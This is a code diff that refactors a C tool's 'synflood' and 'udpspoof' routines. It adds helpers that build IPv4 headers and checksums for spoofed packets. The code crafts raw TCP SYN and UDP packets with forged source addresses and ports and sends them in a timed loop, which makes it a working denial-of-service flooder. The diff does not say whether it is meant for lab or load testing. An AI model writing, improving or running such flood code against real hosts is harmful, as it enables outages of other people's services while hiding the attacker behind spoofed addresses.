@@ -300,6 +300,34 @@ static uint32_t csum_add(uint32_t s, const void *p, int len)
 	return s;
 }
 
+/* An IPv4 header (no options) of a spoofed packet, checksum included
+ * (returned by value: the packets are packed structs). */
+static struct iphdr ip4_hdr(uint8_t proto, size_t len, long i, uint32_t saddr, uint32_t daddr)
+{
+	struct iphdr ip;
+
+	memset(&ip, 0, sizeof(ip));
+	ip.version = 4;
+	ip.ihl = 5;
+	ip.ttl = 64;
+	ip.protocol = proto;
+	ip.tot_len = htons(len);
+	ip.id = htons((uint16_t)i);
+	ip.saddr = saddr;
+	ip.daddr = daddr;
+	ip.check = csum_fold(csum_add(0, &ip, sizeof(ip)));
+	return ip;
+}
+
+/* The TCP or UDP checksum of the len bytes at l4 between saddr and daddr
+ * (before it is written: the field holds 0). */
+static uint16_t l4_csum(uint32_t saddr, uint32_t daddr, uint8_t proto, const void *l4, size_t len)
+{
+	struct { uint32_t s, d; uint8_t z, p; uint16_t l; } ph = { saddr, daddr, 0, proto, htons(len) };
+
+	return csum_fold(csum_add(csum_add(0, &ph, sizeof(ph)), l4, len));
+}
+
 /* synflood (udp 0) and udpspoof (udp 1). */
 static int do_spoofed(char **av, int udp)
 {
@@ -338,26 +366,16 @@ static int do_spoofed(char **av, int udp)
 		if ((i & 255) == 0 && now() >= end)
 			break;
 		long slot = i % ((long)nsrc * 64000);
+		uint32_t saddr = htonl(ntohl(base.s_addr) + 1 + slot / 64000);
 		if (udp) {
 			memset(&upkt, 0, sizeof(upkt));
-			upkt.ip.version = 4;
-			upkt.ip.ihl = 5;
-			upkt.ip.ttl = 64;
-			upkt.ip.protocol = IPPROTO_UDP;
-			upkt.ip.tot_len = htons(sizeof(upkt));
-			upkt.ip.id = htons((uint16_t)i);
-			upkt.ip.saddr = htonl(ntohl(base.s_addr) + 1 + slot / 64000);
-			upkt.ip.daddr = dst.sin_addr.s_addr;
 			upkt.udp.source = htons(1024 + slot % 64000);
 			upkt.udp.dest = dst.sin_port;
 			upkt.udp.len = htons(sizeof(upkt.udp) + sizeof(upkt.data));
 			memset(upkt.data, 'f', sizeof(upkt.data));
-			struct { uint32_t s, d; uint8_t z, p; uint16_t l; } uph = {
-				upkt.ip.saddr, upkt.ip.daddr, 0, IPPROTO_UDP, upkt.udp.len };
-			uint32_t us = csum_add(0, &uph, sizeof(uph));
-			us = csum_add(us, &upkt.udp, sizeof(upkt.udp) + sizeof(upkt.data));
-			upkt.udp.check = csum_fold(us) ? csum_fold(us) : 0xffff;
-			upkt.ip.check = csum_fold(csum_add(0, &upkt.ip, sizeof(upkt.ip)));
+			uint16_t c = l4_csum(saddr, dst.sin_addr.s_addr, IPPROTO_UDP, &upkt.udp, sizeof(upkt.udp) + sizeof(upkt.data));
+			upkt.udp.check = c ? c : 0xffff;
+			upkt.ip = ip4_hdr(IPPROTO_UDP, sizeof(upkt), i, saddr, dst.sin_addr.s_addr);
 			if (sendto(fd, &upkt, sizeof(upkt), 0, (void *)&dst, sizeof(dst)) == sizeof(upkt))
 				tx++;
 			else if (errno == ENOBUFS)
@@ -365,14 +383,6 @@ static int do_spoofed(char **av, int udp)
 			continue;
 		}
 		memset(&pkt, 0, sizeof(pkt));
-		pkt.ip.version = 4;
-		pkt.ip.ihl = 5;
-		pkt.ip.ttl = 64;
-		pkt.ip.protocol = IPPROTO_TCP;
-		pkt.ip.tot_len = htons(sizeof(pkt));
-		pkt.ip.id = htons((uint16_t)i);
-		pkt.ip.saddr = htonl(ntohl(base.s_addr) + 1 + slot / 64000);
-		pkt.ip.daddr = dst.sin_addr.s_addr;
 		pkt.tcp.source = htons(1024 + slot % 64000);
 		pkt.tcp.dest = dst.sin_port;
 		seq = seq * 1103515245u + 12345u;
@@ -384,13 +394,8 @@ static int do_spoofed(char **av, int udp)
 		pkt.opt[1] = 4;
 		pkt.opt[2] = 1460 >> 8;
 		pkt.opt[3] = 1460 & 0xff;
-		struct { uint32_t s, d; uint8_t z, p; uint16_t l; } ph = {
-			pkt.ip.saddr, pkt.ip.daddr, 0, IPPROTO_TCP,
-			htons(sizeof(pkt.tcp) + sizeof(pkt.opt)) };
-		uint32_t s = csum_add(0, &ph, sizeof(ph));
-		s = csum_add(s, &pkt.tcp, sizeof(pkt.tcp) + sizeof(pkt.opt));
-		pkt.tcp.check = csum_fold(s);
-		pkt.ip.check = csum_fold(csum_add(0, &pkt.ip, sizeof(pkt.ip)));
+		pkt.tcp.check = l4_csum(saddr, dst.sin_addr.s_addr, IPPROTO_TCP, &pkt.tcp, sizeof(pkt.tcp) + sizeof(pkt.opt));
+		pkt.ip = ip4_hdr(IPPROTO_TCP, sizeof(pkt), i, saddr, dst.sin_addr.s_addr);
 		if (sendto(fd, &pkt, sizeof(pkt), 0, (void *)&dst, sizeof(dst)) == sizeof(pkt))
 			tx++;
 		else if (errno == ENOBUFS)
